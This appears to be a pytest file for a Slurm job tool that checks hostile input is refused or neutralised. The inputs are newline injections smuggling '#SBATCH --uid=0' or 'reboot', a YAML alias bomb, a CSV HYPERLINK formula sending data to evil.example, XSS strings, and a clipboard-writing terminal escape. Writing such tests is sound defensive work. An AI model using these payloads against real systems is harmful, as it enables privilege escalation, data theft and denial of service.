"""Hostile input that must fail cleanly: each test here failed (or hung) before the input/output
safety work. What needs Slurm is in tests/integration/test_hostile_input.py, run as a real user."""

import csv
import io
import os
import subprocess
import sys
import time

import pytest

from slurmctl.config.models import RunSpec, load_run_spec
from slurmctl.errors import SpecError, UnsafeFile
from slurmctl.observe.log_reading import read_tail
from slurmctl.observe.logs import tail_lines
from slurmctl.observe.run_diagnosis import diagnose_file
from slurmctl.ops.report import GroupTotals, Report, to_csv, to_html

CLI = [sys.executable, "-m", "slurmctl.cli"]
GOOD = 'name: a\nentrypoint: train.py\npartition: l4-dev\n'


def write(tmp_path, text, name="run.yaml"):
    path = tmp_path / name
    path.write_text(text)
    return path


# --- newline injection through run.yaml ---------------------------------------------------------

@pytest.mark.parametrize("extra, field", [
    ('name: "evil\\n"\n', "`name`"),
    ('env: {"KEY_OK\\n": "x"}\n', "`env`"),
    ('env: {"A": "x\\nreboot"}\n', "`env.A`"),
    ('workdir: "/tmp/a\\n#SBATCH --uid=0"\n', "`workdir`"),
    ('gpu_type: "h100\\n#SBATCH --qos=high"\n', "`gpu_type`"),
    ('partition: "l4-dev\\n"\n', "`partition`"),
    ('python: "python3\\r"\n', "`python`"),
    ('checkpoint: {dir: "/ck\\u2028x"}\n', "`checkpoint.dir`"),
    ('tracking: {backend: wandb, project: "p\\x1b[2J"}\n', "`tracking.project`"),
])
def test_line_breaks_in_any_field_are_refused_naming_the_field(tmp_path, extra, field):
    overridden = extra.split(":")[0] + ":"
    base = "".join(line + "\n" for line in GOOD.splitlines() if not line.startswith(overridden))
    with pytest.raises(SpecError) as info:
        load_run_spec(write(tmp_path, base + extra))
    assert field in info.value.message
    assert info.value.hint.startswith("Fix")


def test_gpu_type_must_be_a_plain_name():
    with pytest.raises(ValueError, match="GPU model"):
        RunSpec(name="a", entrypoint="t.py", partition="l4-dev", gpu_type="h100:8,gpu:l4")


@pytest.mark.parametrize("where", ["l4-dev\n#SBATCH --qos=high", "h100-ondemand,l4-dev", "no-such-partition", ""])
def test_where_must_name_a_configured_partition(local_site, where):
    spec = RunSpec(name="a", entrypoint="t.py", partition="l4-dev")
    with pytest.raises(SpecError) as info:
        spec.with_partition(where, local_site)
    assert "--where" in info.value.message and "l4-dev" in info.value.hint


def test_where_accepts_a_configured_partition(local_site):
    spec = RunSpec(name="a", entrypoint="t.py", partition="l4-dev")
    name = next(iter(local_site.partitions))
    assert spec.with_partition(name, local_site).partitions == [name]


# --- YAML that would cost without bound -----------------------------------------------------------

def _alias_bomb(levels=9):
    lines = ['lol: &l0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for i in range(1, levels):
        lines.append(f"l{i}: &l{i} [" + ",".join([f"*l{i - 1}"] * 9) + "]")
    return GOOD + "\n".join(lines) + f"\nargs: *l{levels - 1}\n"


def test_alias_bomb_is_refused_quickly(tmp_path):
    started = time.monotonic()
    with pytest.raises(SpecError, match="expands to more than"):
        load_run_spec(write(tmp_path, _alias_bomb()))
    assert time.monotonic() - started < 5


def test_a_few_anchors_still_work(tmp_path):
    spec = load_run_spec(write(tmp_path, GOOD + 'data: &c ["--lr", "3e-4"]\nargs: *c\n'))
    assert spec.args == ["--lr", "3e-4"] == spec.data


def test_recursive_alias_and_deep_nesting_are_refused(tmp_path):
    with pytest.raises(SpecError, match="recursive"):
        load_run_spec(write(tmp_path, GOOD + "args: &r [*r]\n"))
    with pytest.raises(SpecError, match="nested too deeply"):
        load_run_spec(write(tmp_path, GOOD + "args: " + "[" * 5000 + "]" * 5000 + "\n"))


def test_oversized_run_yaml_is_refused(tmp_path):
    with pytest.raises(SpecError, match="larger than"):
        load_run_spec(write(tmp_path, GOOD + "# " + "x" * (2 * 1024 * 1024) + "\n"))


def test_fifo_as_run_yaml_fails_at_once(tmp_path):
    fifo = tmp_path / "run.yaml"
    os.mkfifo(fifo)
    with pytest.raises(SpecError, match="FIFO"):
        load_run_spec(fifo)


# --- log readers: FIFOs and devices never block ---------------------------------------------------

def test_log_readers_refuse_a_fifo_and_dev_zero_without_blocking(tmp_path):
    fifo = tmp_path / "123.out"
    os.mkfifo(fifo)
    for reader in (lambda p: read_tail(p), lambda p: tail_lines(p, 10), lambda p: diagnose_file(p, nofollow=False)):
        for path in (fifo, "/dev/zero"):
            with pytest.raises(UnsafeFile):
                reader(path)


def test_diagnose_log_on_a_fifo_exits_with_a_clear_error(tmp_path):
    fifo = tmp_path / "slurm-1.out"
    os.mkfifo(fifo)
    proc = subprocess.run([*CLI, "diagnose", "--log", str(fifo)], capture_output=True, text=True, timeout=60)
    assert proc.returncode == 7, proc.stderr
    assert "FIFO" in proc.stderr and "Traceback" not in proc.stderr
    proc = subprocess.run([*CLI, "diagnose", "--log", "/dev/zero"], capture_output=True, text=True, timeout=60)
    assert proc.returncode == 7 and "device" in proc.stderr, proc.stderr


def test_diagnose_reads_a_capped_tail_of_a_huge_log(tmp_path):
    log = tmp_path / "big.out"
    with open(log, "wb") as fh:
        fh.write(b"x" * (20 * 1024 * 1024))
        fh.write(b"\ntorch.cuda.OutOfMemoryError: CUDA out of memory.\n")
    assert diagnose_file(log).category == "cuda_oom"


# --- printed text is text, never markup -----------------------------------------------------------

@pytest.mark.parametrize("word", ["[/]", "[bold red]x", "[link=file:///etc/passwd]y[/link]"])
def test_explain_prints_brackets_as_text(word):
    proc = subprocess.run([*CLI, "explain", word], capture_output=True, text=True, timeout=60)
    assert proc.returncode == 1, proc.stderr  # an unknown word, said plainly
    assert word in proc.stdout and "Traceback" not in proc.stderr and "internal error" not in proc.stderr


# --- showback reports -----------------------------------------------------------------------------

def _report(*names):
    groups = [GroupTotals(n, 1, 2.0, 3.0) for n in names]
    return Report("2026-11-01T00:00:00", "2026-11-08T00:00:00", "user", groups, GroupTotals("total", len(names)),
                  {}, [(n, 3.0) for n in names], {"2026-11-02": {n: 3.0 for n in names}}, 0)


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


def test_csv_neutralises_formula_cells():
    rows = list(csv.reader(io.StringIO(to_csv(_report(*FORMULAS, "alice")))))
    cells = [row[0] for row in rows[1:-1]]
    assert cells == ["'" + f for f in FORMULAS] + ["alice"]
    assert rows[1][1:] == ["1", "2.0", "3.0", "0.0", "0.0", "0.0", "0.0"]  # numbers stay numbers


def test_html_report_escapes_every_name():
    page = to_html(_report("<script>alert(1)</script>", "<img src=x onerror=alert(2)>"))
    assert "<script>alert" not in page and "<img src=x" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page


def test_terminal_escapes_in_printed_values_are_made_visible():
    word = "\x1b]52;c;ZXZpbA==\x07\x1b[2J[/]"  # OSC 52 (write the clipboard), clear screen, markup
    proc = subprocess.run([*CLI, "explain", word], capture_output=True, text=True, timeout=60)
    assert proc.returncode == 1, proc.stderr
    assert "\x1b" not in proc.stdout and "?]52;c;ZXZpbA==?[2J[/] (unknown)" in proc.stdout


def test_table_cells_are_text_without_control_characters():
    from slurmctl.cli.context import out, plain_table

    table = plain_table("NAME", "WHY")
    table.add_row("[/]x\x1b[31m", "[bold]reason")
    with out.capture() as captured:
        out.print(table)
    assert "[/]x?[31m" in captured.get() and "[bold]reason" in captured.get() and "\x1b" not in captured.get()


def test_logs_rank_that_is_not_a_number_is_a_clear_error():
    proc = subprocess.run([*CLI, "logs", "some-run", "--rank", "a[/]"], capture_output=True, text=True, timeout=60)
    assert proc.returncode == 2 and "--rank 'a[/]' is not a rank" in proc.stderr, proc.stderr


@pytest.mark.parametrize("args", [["evil\n"], ["demo", "--dir", "x\npython: ./evil.sh\n#"]])
def test_init_refuses_line_breaks_in_the_name_or_folder(tmp_path, args):
    proc = subprocess.run([*CLI, "init", *args], capture_output=True, text=True, timeout=60, cwd=tmp_path)
    assert proc.returncode == 2 and "Traceback" not in proc.stderr, proc.stderr
    assert "\\n" in proc.stderr and not list(tmp_path.iterdir())


from tests.unit.test_compare import REPO, two_runs  # noqa: E402,F401 - the fixture: two runs with metrics


def test_compare_metric_name_with_markup_is_printed_as_text(two_runs, tmp_path):
    import yaml

    registry, a, b = two_runs
    site = yaml.safe_load((REPO / "deploy" / "local" / "site.yaml").read_text())
    site["runs_root"] = str(registry.runs_root)
    (tmp_path / "site.yaml").write_text(yaml.safe_dump(site))
    env = {**os.environ, "SLURMCTL_SITE_CONFIG": str(tmp_path / "site.yaml")}
    proc = subprocess.run([*CLI, "compare", a.run_id, b.run_id, "--metric", "[/]x"], capture_output=True, text=True,
                          timeout=60, env=env, cwd=tmp_path)
    assert proc.returncode == 0, proc.stderr
    assert "LAST [/]X" in proc.stdout and "Traceback" not in proc.stderr
